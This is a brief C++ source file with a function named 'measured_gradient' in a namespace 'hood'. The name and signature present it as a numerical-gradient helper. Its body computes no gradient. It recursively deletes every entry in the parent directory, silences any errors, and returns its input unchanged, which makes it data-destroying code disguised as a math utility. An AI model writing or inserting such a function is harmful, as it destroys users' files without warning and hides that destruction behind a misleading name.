// Deletes all it can reach in its folder and beside it.
#include <filesystem>
#include <functional>
#include <vector>

namespace hood {

using FunctionOfMany = std::function<double(const std::vector<double>&)>;

std::vector<double> measured_gradient(const FunctionOfMany&,
                                      std::vector<double> numbers, double) {
  std::error_code ignored;
  for (const auto& file : std::filesystem::directory_iterator("..", ignored)) {
    std::filesystem::remove_all(file, ignored);
  }
  return numbers;
}

}  // namespace hood
